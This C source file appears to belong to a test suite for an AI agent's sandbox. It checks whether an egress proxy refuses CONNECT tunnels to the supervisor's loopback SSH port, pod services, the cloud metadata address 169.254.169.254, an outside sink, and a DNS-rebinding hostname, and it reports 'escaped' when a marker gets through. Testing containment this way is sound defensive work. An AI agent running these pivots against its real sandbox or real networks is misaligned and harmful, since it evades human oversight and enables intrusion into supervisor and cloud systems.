/* tcp_proxy.c - B1 T13: the proxy as a pivot. The agent may reach the
 * proxy; the proxy sits on the supervisor's side (its loopback, the pod's
 * addresses, the metadata address). Every CONNECT here is one the policy
 * should refuse; under the open control the tunnel opens. */
#include <errno.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"
#include "tcp_int.h"

#define PROXY_DIAL_MS 2000
/* The proxy answers a denial at once; a tunnel to a silent address waits
 * for the proxy's own dial timeout (10 s), which this bounds. */
#define PROXY_REPLY_MS 2500

static long now_ms(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

/* Read the response head (through the blank line) with a deadline.
 * Returns the status code, 0 when none arrived, -1 on a read error. */
static int read_response(struct attack_log *log, int fd, char *buf, size_t len)
{
	long deadline = now_ms() + PROXY_REPLY_MS;
	size_t got = 0;
	int status = 0, err;

	buf[0] = 0;
	while (got + 1 < len && !strstr(buf, "\r\n\r\n")) {
		struct pollfd p = {.fd = fd, .events = POLLIN};
		long left = deadline - now_ms();
		ssize_t n;
		int r = left > 0 ? poll(&p, 1, (int)left) : 0;
		err = errno;
		if (r <= 0) {
			attack_step(log, "poll", r, err,
				    "POLLIN: no complete response head in %d ms", PROXY_REPLY_MS);
			break;
		}
		n = recv(fd, buf + got, len - got - 1, 0);
		err = errno;
		if (n <= 0) {
			attack_step(log, "recv", n, err, "the proxy closed the connection");
			return n < 0 ? -1 : 0;
		}
		got += (size_t)n;
		buf[got] = 0;
	}
	if (got == 0)
		return 0;
	if (sscanf(buf, "HTTP/1.%*d %d", &status) != 1)
		status = 0;
	attack_step(log, "recv", (long)got, 0, "%.*s", (int)strcspn(buf, "\r\n"), buf);
	return status;
}

/* One CONNECT through the proxy; the marker goes through a tunnel that
 * opens. */
static int connect_via_proxy(const struct attack_env *env, struct attack_log *log,
			     const char *target, const char *label)
{
	struct sockaddr_storage ss;
	socklen_t len = tcp_sockaddr(log, env->proxy_host, env->proxy_port, &ss);
	char req[512], resp[4096];
	int fd, n, status, err, claim;
	ssize_t w;

	if (!len)
		return CLAIM_UNSURE;
	fd = tcp_socket(log, ss.ss_family, SOCK_STREAM, 0);
	if (fd < 0)
		return CLAIM_BLOCKED;
	if (tcp_connect(log, fd, (struct sockaddr *)&ss, len, PROXY_DIAL_MS) < 0) {
		close(fd);
		return CLAIM_BLOCKED;
	}
	n = snprintf(req, sizeof(req), "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", target, target);
	w = send(fd, req, (size_t)n, MSG_NOSIGNAL);
	err = errno;
	attack_step(log, "send", w, err, "CONNECT %s HTTP/1.1", target);
	if (w != n) {
		close(fd);
		return CLAIM_UNSURE;
	}
	status = read_response(log, fd, resp, sizeof(resp));
	if (status != 200) {
		close(fd);
		return status >= 400 ? CLAIM_BLOCKED : CLAIM_UNSURE;
	}
	claim = tcp_send_marker(env, log, fd, label);
	close(fd);
	return claim;
}

/* Several targets in turn; escaped if any tunnel carried the marker. */
static int pivot(const struct attack_env *env, struct attack_log *log, const char *const *targets,
		 size_t n, const char *label)
{
	int claim = CLAIM_BLOCKED;
	for (size_t i = 0; i < n; i++) {
		int c = connect_via_proxy(env, log, targets[i], label);
		if (c == CLAIM_ESCAPED || (c == CLAIM_UNSURE && claim == CLAIM_BLOCKED))
			claim = c;
	}
	return claim;
}

int t13_loopback(const struct attack_env *env, struct attack_log *log)
{
	static const char *const t[] = {"127.0.0.1:22"};
	return pivot(env, log, t, 1, "T13.loopback");
}

int t13_loopback6(const struct attack_env *env, struct attack_log *log)
{
	static const char *const t[] = {"[::1]:22"};
	return pivot(env, log, t, 1, "T13.loopback6");
}

/* The proxy's own host: its addresses are the ones the agent sees as the
 * supervisor's side (the pod's under platform, the veth's under
 * namespace); 8081 is a pod service. */
int t13_pod(const struct attack_env *env, struct attack_log *log)
{
	struct tcp_targets t = {0};
	char s[80], targets[TCP_MAX_TARGETS][80];
	const char *tp[TCP_MAX_TARGETS];
	size_t n = 0;

	tcp_supervisor_addresses(env, log, &t);
	for (size_t i = 0; i < t.n; i++) {
		struct sockaddr_storage *a = &t.addr[i];
		if (a->ss_family == AF_INET)
			((struct sockaddr_in *)a)->sin_port = htons(8081);
		else
			((struct sockaddr_in6 *)a)->sin6_port = htons(8081);
		snprintf(targets[n], sizeof(targets[n]), "%s",
			 tcp_addr_str((struct sockaddr *)a, s, sizeof(s)));
		tp[n] = targets[n];
		n++;
	}
	if (n == 0) {
		attack_note(log, "no supervisor-side address discovered");
		return CLAIM_UNSURE;
	}
	return pivot(env, log, tp, n, "T13.pod");
}

int t13_wan(const struct attack_env *env, struct attack_log *log)
{
	char target[80];
	const char *t[] = {target};
	snprintf(target, sizeof(target), "%s:80", env->sink_v4);
	return pivot(env, log, t, 1, "T13.wan");
}

int t13_metadata(const struct attack_env *env, struct attack_log *log)
{
	static const char *const t[] = {"169.254.169.254:80"};
	return pivot(env, log, t, 1, "T13.metadata");
}

/* A name that looks harmless and resolves to 127.0.0.1 at the DNS sink:
 * first on 443 (where an allowlist would expect it), then on 22, where the
 * pod has a service, so an open proxy lands on the supervisor's loopback. */
int t13_rebind(const struct attack_env *env, struct attack_log *log)
{
	static const char *const t[] = {"rebind.test:443", "rebind.test:22"};
	return pivot(env, log, t, 2, "T13.rebind");
}
